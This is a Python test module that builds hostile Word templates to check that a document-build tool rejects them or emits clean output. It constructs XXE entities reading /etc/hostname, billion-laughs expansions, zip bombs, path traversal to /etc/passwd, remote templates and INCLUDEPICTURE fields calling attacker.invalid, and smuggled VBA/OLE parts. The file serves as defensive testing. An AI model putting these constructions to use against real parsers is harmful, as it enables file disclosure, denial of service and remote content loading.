"""Hostile Word templates for --template: each with what the build must do (attack report, area 1).

`cases()` yields (name, bytes, expected) where expected is "ok" (built; nothing dangerous in the
output) or a fragment of the Dutch refusal (exit 1). Built from python-docx's own default
document, edited part by part, so the set needs no files from outside.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import docx
from lxml import etree

_BASE: dict[str, bytes] = {}
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DTD = "DTD (<!DOCTYPE>)"
BROKEN = "geen leesbaar Word-document"


def base() -> dict[str, bytes]:
    if not _BASE:
        buffer = io.BytesIO()
        docx.Document().save(buffer)
        with zipfile.ZipFile(buffer) as z:
            _BASE.update({n: z.read(n) for n in z.namelist()})
    return dict(_BASE)


def pack(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def edit(**changes: Callable[[bytes], bytes] | bytes | None) -> bytes:
    """The base package with parts replaced (bytes), rewritten (function) or removed (None); '__' = '/'."""
    parts = base()
    for key, change in changes.items():
        name = key.replace("__", "/").replace("CT", "[Content_Types].xml").replace("DOT", ".")
        if change is None:
            parts.pop(name, None)
        elif callable(change):
            parts[name] = change(parts[name])
        else:
            parts[name] = change
    return pack(parts)


def sub(pattern: str, repl: str) -> Callable[[bytes], bytes]:
    return lambda data: re.sub(pattern.encode(), repl.encode(), data, count=1)


def with_dtd(root: str, entities: str, where: tuple[str, str]) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        data = re.sub(rb"\?>", f"?>\n<!DOCTYPE {root} [{entities}]>".encode(), data, count=1)
        return data.replace(where[0].encode(), where[1].encode(), 1)

    return change


def add_rel(rel: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_override(part: str, ctype: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(
        b"</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>'.encode()
    )


def header_part(body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr {W_NS} {R_NS}>{body}</w:hdr>'.encode()


def with_header(body: str, extra: dict[str, bytes] | None = None, header_rels: str = "") -> bytes:
    parts = base()
    parts["word/header1.xml"] = header_part(body)
    parts["word/_rels/document.xml.rels"] = add_rel(
        f'<Relationship Id="rIdHd" Type="{REL}/header" Target="header1.xml"/>'
    )(parts["word/_rels/document.xml.rels"])
    parts["[Content_Types].xml"] = add_override(
        "word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    )(parts["[Content_Types].xml"])
    parts["word/document.xml"] = sub("(<w:sectPr[^>]*>)", r'\1<w:headerReference w:type="default" r:id="rIdHd"/>')(
        parts["word/document.xml"]
    )
    if header_rels:
        parts["word/_rels/header1.xml.rels"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{header_rels}</Relationships>'.encode()
        )
    parts.update(extra or {})
    return pack(parts)


def bomb(member: str, size: int, referenced: bool) -> bytes:
    parts = base()
    if referenced:
        parts["word/_rels/document.xml.rels"] = add_rel(
            f'<Relationship Id="rId99" Type="{REL}/image" Target="{member.removeprefix("word/")}"/>'
        )(parts["word/_rels/document.xml.rels"])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            if name != member:
                z.writestr(name, data)
        info = zipfile.ZipInfo(member)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as w:
            chunk = bytes(1 << 20)
            for _ in range(size >> 20):
                w.write(chunk)
    return out.getvalue()


def corrupt_member(member: str) -> bytes:
    data = bytearray(edit())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo(member)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 10, start + 60):
        data[i] ^= 0x5A
    return bytes(data)


def style_as(name: str, kind: str) -> Callable[[bytes], bytes]:
    pattern = f'<w:style w:type="[a-z]+"( w:default="1")? w:styleId="[^"]+"><w:name w:val="{name}"/>'
    return sub(pattern, f'<w:style w:type="{kind}" w:styleId="X{len(name)}"><w:name w:val="{name}"/>')


def sect(inner: str) -> Callable[[bytes], bytes]:
    return sub(r"<w:sectPr.*</w:sectPr>", inner)


def cases() -> Iterator[tuple[str, bytes, str]]:  # noqa: C901 - a flat list of inputs
    ext = '<!ENTITY xxe SYSTEM "file:///etc/hostname">'
    laughs = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi")
    )
    normal = ('<w:name w:val="Normal"/>', '<w:name w:val="Normal"/><w:aliases w:val="&xxe;"/>')
    yield "xxe_styles_attribute", edit(word__stylesDOTxml=with_dtd("w:styles", ext, normal)), DTD
    yield (
        "xxe_document_text",
        edit(
            word__documentDOTxml=with_dtd(
                "w:document", ext, ("<w:body>", "<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>")
            )
        ),
        DTD,
    )
    yield (
        "xxe_settings_docvar",
        edit(
            word__settingsDOTxml=with_dtd(
                "w:settings", ext, ("<w:zoom", '<w:docVars><w:docVar w:name="a" w:val="&xxe;"/></w:docVars><w:zoom')
            )
        ),
        DTD,
    )
    yield (
        "xxe_parameter_entity",
        edit(word__stylesDOTxml=with_dtd("w:styles", '<!ENTITY % p SYSTEM "evil.dtd"> %p;', ("", ""))),
        DTD,
    )
    yield (
        "xxe_network_dtd",
        edit(
            word__stylesDOTxml=with_dtd(
                "w:styles", '<!ENTITY % p SYSTEM "http://127.0.0.1:8765/evil.dtd"> %p;', ("", "")
            )
        ),
        DTD,
    )
    yield (
        "xxe_style_name",
        edit(word__stylesDOTxml=with_dtd("w:styles", ext, ('<w:name w:val="Title"/>', '<w:name w:val="Title&xxe;"/>'))),
        DTD,
    )
    yield (
        "billion_laughs_styles",
        edit(word__stylesDOTxml=with_dtd("w:styles", laughs, normal[:1] + (normal[1].replace("xxe", "i"),))),
        DTD,
    )
    yield (
        "billion_laughs_document",
        edit(
            word__documentDOTxml=with_dtd(
                "w:document", laughs, ("<w:body>", "<w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p>")
            )
        ),
        DTD,
    )
    internal = '<!ENTITY org "Huisstijl">'
    yield (
        "internal_entity_styles",
        edit(word__stylesDOTxml=with_dtd("w:styles", internal, (normal[0], normal[1].replace("xxe", "org")))),
        DTD,
    )
    yield (
        "internal_entity_document",
        edit(
            word__documentDOTxml=with_dtd(
                "w:document", internal, ("<w:body>", "<w:body><w:p><w:r><w:t>&org;</w:t></w:r></w:p>")
            )
        ),
        DTD,
    )
    yield (
        "entity_in_core_properties",
        edit(
            docProps__coreDOTxml=with_dtd(
                "cp:coreProperties", ext, ("</cp:coreProperties>", "<dc:title>&xxe;</dc:title></cp:coreProperties>")
            )
        ),
        "ok",
    )
    yield "dtd_in_numbering", edit(word__numberingDOTxml=with_dtd("w:numbering", "", ("", ""))), DTD
    yield (
        "undefined_entity_styles",
        edit(word__stylesDOTxml=lambda d: d.replace(normal[0].encode(), normal[1].encode(), 1)),
        "geen geldige XML",
    )
    for name, size in (("word/media/bomb.png", 24 << 20), ("word/media/bomb2.png", 256 << 20)):
        yield f"zip_bomb_image_{size >> 20}mib", bomb(name, size, referenced=True), "ok"
    yield "zip_bomb_unreferenced", bomb("word/media/x.bin", 24 << 20, referenced=False), "ok"
    yield "zip_bomb_as_styles", bomb("word/styles.xml", 17 << 20, referenced=False), "groter dan 16 MiB"
    yield "zip_bomb_as_settings", bomb("word/settings.xml", 17 << 20, referenced=False), "groter dan 16 MiB"
    yield "zip_bomb_as_content_types", bomb("[Content_Types].xml", 17 << 20, referenced=False), "groter dan 16 MiB"
    yield "corrupt_deflate_styles", corrupt_member("word/styles.xml"), "beschadigd"
    yield "corrupt_deflate_document", corrupt_member("word/document.xml"), "beschadigd"
    yield (
        "zip_member_traversal",
        edit(**{"..__..__..__..__pwned_memberDOTtxt": b"x", "__tmp__pwned_absDOTtxt": b"x"}),
        "ok",
    )
    yield (
        "rel_target_traversal",
        edit(
            word___rels__documentDOTxmlDOTrels=add_rel(
                f'<Relationship Id="rId77" Type="{REL}/image" Target="../../../../../tmp/pwned.png"/>'
            )
        ),
        "ok",
    )
    yield (
        "rel_to_etc_passwd",
        edit(
            word___rels__documentDOTxmlDOTrels=add_rel(
                f'<Relationship Id="rId77" Type="{REL}/styles" Target="../../../../../etc/passwd"/>'
            )
        ),
        "ok",
    )
    yield (
        "external_rel_file",
        edit(
            word___rels__documentDOTxmlDOTrels=add_rel(
                f'<Relationship Id="rId77" Type="{REL}/image" Target="file:///etc/passwd" TargetMode="External"/>'
            )
        ),
        "ok",
    )
    yield (
        "external_styles_rel",
        edit(
            word___rels__documentDOTxmlDOTrels=add_rel(
                f'<Relationship Id="rId78" Type="{REL}/styles" Target="http://attacker.invalid/s.xml" TargetMode="External"/>'
            )
        ),
        "ok",
    )
    yield (
        "non_ascii_part_name",
        edit(
            **{"word__media__logóDOTpng": b"\x89PNG"},
            word___rels__documentDOTxmlDOTrels=add_rel(
                f'<Relationship Id="rId77" Type="{REL}/image" Target="media/log%C3%B3.png"/>'
            ),
        ),
        "ok",
    )
    yield (
        "without_styles",
        edit(word__stylesDOTxml=None, word___rels__documentDOTxmlDOTrels=sub('<Relationship Id="rId3"[^>]*/>', "")),
        "ok",
    )
    yield "styles_rel_dangling", edit(word__stylesDOTxml=None), "ok"
    yield "styles_empty", edit(word__stylesDOTxml=f'<?xml version="1.0"?><w:styles {W_NS}/>'.encode()), "ok"
    yield (
        "styles_no_normal",
        edit(word__stylesDOTxml=lambda d: d.replace(b'<w:name w:val="Normal"/>', b'<w:name w:val="Gewoon"/>')),
        "ok",
    )
    attached = f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" Target="http://attacker.invalid/evil.dotm" TargetMode="External"/>'
    settings_rels = f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{attached}</Relationships>'.encode()
    yield (
        "attached_template_remote",
        edit(
            word__settingsDOTxml=sub("(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>'),
            word___rels__settingsDOTxmlDOTrels=settings_rels,
        ),
        "ok",
    )
    yield (
        "attached_template_network_share",
        edit(
            word__settingsDOTxml=sub("(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/><w:linkStyles/>'),
            word___rels__settingsDOTxmlDOTrels=settings_rels.replace(
                b"http://attacker.invalid/evil.dotm", b"file://///server/share/Normal.dotm"
            ),
        ),
        "ok",
    )
    yield (
        "mail_merge_datasource",
        edit(
            word__settingsDOTxml=sub(
                "(<w:settings[^>]*>)",
                r'\1<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdT"/></w:mailMerge>',
            ),
            word___rels__settingsDOTxmlDOTrels=settings_rels,
        ),
        "ok",
    )
    yield (
        "document_protection",
        edit(
            word__settingsDOTxml=sub(
                "(<w:settings[^>]*>)", r'\1<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
            )
        ),
        "ok",
    )
    vba = '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    yield (
        "vba_project_smuggled",
        edit(word__vbaProjectDOTbin=b"\xd0\xcf\x11\xe0VBA", word___rels__documentDOTxmlDOTrels=add_rel(vba)),
        "ok",
    )
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    yield (
        "docm_with_macros",
        edit(
            CT=lambda d: d.replace(main.encode(), macro_main.encode()),
            word__vbaProjectDOTbin=b"VBA",
            word___rels__documentDOTxmlDOTrels=add_rel(vba),
        ),
        "ok",
    )
    yield (
        "dotx",
        edit(CT=lambda d: d.replace(main.encode(), main.replace("document.main", "template.main").encode())),
        "ok",
    )
    yield "main_part_other_type", edit(CT=lambda d: d.replace(main.encode(), b"application/xml")), BROKEN
    yield "encrypted_ole_container", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), "wachtwoord"
    yield "png_renamed", b"\x89PNG\r\n\x1a\n" + bytes(200), BROKEN
    yield "empty_file", b"", BROKEN
    yield "text_file", b"dit is geen Word-bestand\n", BROKEN
    yield "zip_without_word", pack({"a.txt": b"x"}), BROKEN
    yield "zip_without_content_types", pack({k: v for k, v in base().items() if k != "[Content_Types].xml"}), BROKEN
    yield "zip_without_package_rels", pack({k: v for k, v in base().items() if k != "_rels/.rels"}), BROKEN
    yield "truncated_zip", edit()[:5000], BROKEN
    yield (
        "heading_as_character_style",
        edit(word__stylesDOTxml=style_as("heading 1", "character")),
        "tekenopmaakprofiel",
    )
    yield "title_as_table_style", edit(word__stylesDOTxml=style_as("Title", "table")), "tabelopmaakprofiel"
    yield "normal_as_character_style", edit(word__stylesDOTxml=style_as("Normal", "character")), "tekenopmaakprofiel"
    yield "footer_as_numbering_style", edit(word__stylesDOTxml=style_as("footer", "numbering")), "lijstopmaakprofiel"
    yield "table_grid_as_paragraph", edit(word__stylesDOTxml=style_as("Table Grid", "paragraph")), "tabelopmaakprofiel"
    yield "malformed_styles", edit(word__stylesDOTxml=lambda d: d[:-40]), "geen geldige XML"
    yield "malformed_document", edit(word__documentDOTxml=lambda d: d.replace(b"</w:body>", b"")), "geen geldige XML"
    yield "malformed_content_types", edit(CT=lambda d: d[:-10]), "geen geldige XML"
    yield "document_without_body", edit(word__documentDOTxml=sub(r"<w:body>.*</w:body>", "")), "ok"
    yield "document_without_sectpr", edit(word__documentDOTxml=sect("")), "ok"
    yield "empty_sectpr_pandoc_style", edit(word__documentDOTxml=sect("<w:sectPr />")), "ok"
    yield (
        "sectpr_only_pgsz",
        edit(word__documentDOTxml=sect('<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>')),
        "ok",
    )
    yield (
        "sectpr_only_pgmar",
        edit(
            word__documentDOTxml=sect(
                '<w:sectPr><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440"/></w:sectPr>'
            )
        ),
        "ok",
    )
    yield (
        "sectpr_in_last_paragraph",
        edit(
            word__documentDOTxml=sect(
                '<w:p><w:pPr><w:sectPr><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/></w:sectPr></w:pPr></w:p>'
            )
        ),
        "ok",
    )
    yield "page_size_not_a_number", edit(word__documentDOTxml=sub('w:w="12240"', 'w:w="210mm"')), "ok"
    yield (
        "page_narrower_than_margins",
        edit(word__documentDOTxml=sub('<w:pgSz w:w="12240" w:h="15840"/>', '<w:pgSz w:w="100" w:h="100"/>')),
        "kleiner dan de marges",
    )
    yield (
        "margins_wider_than_page",
        edit(word__documentDOTxml=sub('w:left="1800"', 'w:left="20000"')),
        "kleiner dan de marges",
    )
    yield (
        "printer_settings_rel",
        edit(word__documentDOTxml=sub("(<w:sectPr[^>]*>)", r'\1<w:printerSettings r:id="rId1"/>')),
        "ok",
    )
    yield (
        "body_with_content_and_images",
        edit(
            word__documentDOTxml=sub(
                "<w:body>",
                '<w:body><w:p><w:r><w:t>Oude tekst</w:t></w:r><w:r><w:drawing><a:blip xmlns:a="x" r:embed="rId1"/></w:drawing></w:r></w:p><w:altChunk r:id="rId2"/>',
            )
        ),
        "ok",
    )
    yield "header_text", with_header("<w:p><w:r><w:t>Gemeente Voorbeeld</w:t></w:r></w:p>"), "ok"
    yield (
        "header_with_image",
        with_header(
            '<w:p><w:r><w:drawing><a:blip xmlns:a="x" r:embed="rIdImg"/></w:drawing><w:t>Logo</w:t></w:r></w:p>',
            {"word/media/logo.png": b"\x89PNG"},
            f'<Relationship Id="rIdImg" Type="{REL}/image" Target="media/logo.png"/>',
        ),
        "ok",
    )
    yield (
        "header_includepicture_field",
        with_header(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://attacker.invalid/p.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "ok",
    )
    yield (
        "header_includetext_simple_field",
        with_header(
            '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\server\\\\x.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        ),
        "ok",
    )
    yield (
        "header_external_hyperlink",
        with_header(
            '<w:p><w:hyperlink r:id="rIdL"><w:r><w:t>klik</w:t></w:r></w:hyperlink></w:p>',
            header_rels=f'<Relationship Id="rIdL" Type="{REL}/hyperlink" Target="http://attacker.invalid/" TargetMode="External"/>',
        ),
        "ok",
    )
    yield (
        "header_ole_object",
        with_header(
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rIdO"/></w:object></w:r></w:p>',
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
            f'<Relationship Id="rIdO" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/>',
        ),
        "ok",
    )
    yield (
        "header_alternate_content",
        with_header(
            '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:drawing/></mc:Choice><mc:Fallback><w:pict/></mc:Fallback></mc:AlternateContent></w:r></w:p>'
        ),
        "ok",
    )
    yield "header_malformed", with_header("<w:p><w:r>"), "geen geldige XML"
    entity_header = header_part("<w:p><w:r><w:t>&org;</w:t></w:r></w:p>").replace(
        b"?>", f"?><!DOCTYPE w:hdr [{internal}]>".encode(), 1
    )
    yield "header_with_entity", with_header("", {"word/header1.xml": entity_header}), DTD
    yield "member_marked_encrypted", encrypted_member(), "wachtwoord"
    yield (
        "numbering_picture_bullet",
        edit(
            word__numberingDOTxml=sub(
                "(<w:numbering[^>]*>)",
                r'\1<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId1"/></v:shape></w:pict></w:numPicBullet>',
            )
        ),
        "ok",
    )
    yield (
        "font_table_embedded_font",
        edit(
            word__fontTableDOTxml=sub(
                "(<w:font [^>]*>)",
                r'\1<w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/>',
            )
        ),
        "ok",
    )
    yield (
        "theme_with_image",
        edit(
            word__theme__theme1DOTxml=sub(
                "(<a:bgFillStyleLst>)",
                r'\1<a:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rId1"/></a:blipFill>',
            )
        ),
        "ok",
    )
    yield "custom_xml_kept_out", edit(), "ok"
    yield (
        "comments_and_glossary",
        edit(
            word__commentsDOTxml=b"<x/>",
            word__glossary__documentDOTxml=b"<x/>",
            word___rels__documentDOTxmlDOTrels=add_rel(
                f'<Relationship Id="rIdC" Type="{REL}/comments" Target="comments.xml"/><Relationship Id="rIdG" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/glossaryDocument" Target="glossary/document.xml"/>'
            ),
        ),
        "ok",
    )
    yield (
        "two_styles_relationships",
        edit(
            word___rels__documentDOTxmlDOTrels=add_rel(
                f'<Relationship Id="rId79" Type="{REL}/styles" Target="numbering.xml"/>'
            )
        ),
        "ok",
    )
    yield (
        "strict_ooxml",
        edit(
            _rels__DOTrels=lambda d: d.replace(
                b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
                b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
            )
        ),
        BROKEN,
    )
    many = base()
    many.update({f"word/media/x{i}.bin": b"" for i in range(5001)})
    yield "too_many_members", pack(many), "meer dan 5000 onderdelen"


def encrypted_member() -> bytes:
    """A zip whose styles member claims encryption (flag bit 0)."""
    data = bytearray(edit())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("word/styles.xml")
    data[info.header_offset + 6] |= 1
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = int.from_bytes(data[central + 28 : central + 30], "little")
        if data[central + 46 : central + 46 + name_len] == b"word/styles.xml":
            data[central + 8] |= 1
            break
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


_SAFE = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
_DANGEROUS = (b'TargetMode="External"', b"attachedTemplate", b"vbaProject", b"<!DOCTYPE", b"INCLUDEPICTURE", b"INCLUDETEXT", b"oleObject", b"mailMerge")  # fmt: skip


def assert_clean_docx(path: Path) -> None:
    """Well-formed, small, and nothing that fetches, runs or embeds."""
    with zipfile.ZipFile(path) as z:
        total = 0
        for info in z.infolist():
            assert not info.filename.startswith(("word/media/", "word/embeddings/", "customXml/")), info.filename
            data = z.read(info)
            total += len(data)
            assert all(bad not in data for bad in _DANGEROUS), (info.filename, [b for b in _DANGEROUS if b in data])
            if info.filename.endswith((".xml", ".rels")):
                etree.fromstring(data, _SAFE)
        assert total < 4 << 20
    import docx

    docx.Document(str(path))  # python-docx reopens it


def template_cases():
    """The templates above as corpus cases: `build --template` of Nijkerk."""
    from .corpus import NIJKERK, Case

    def check_output(tmp):
        docx_path = tmp / "uit" / "nijkerk" / "nijkerk.docx"
        try:
            assert_clean_docx(docx_path)
        except AssertionError as exc:
            return [f"onveilige uitvoer: {exc}"]
        return []

    def no_output(tmp):
        return ["uitvoer geschreven bij een geweigerd sjabloon"] if (tmp / "uit" / "nijkerk").exists() else []

    for name, data, expected in cases():

        def prepare(tmp, data=data, name=name):
            template = tmp / f"{name}.docx"
            template.write_bytes(data)
            return ["build", str(NIJKERK), "--template", str(template), "--out", str(tmp / "uit")]

        if expected == "ok":
            yield Case("sjabloon", name, prepare, 0, after=check_output)
        else:
            yield Case("sjabloon", name, prepare, 1, ("het sjabloon", expected), after=no_output, refusal=True)
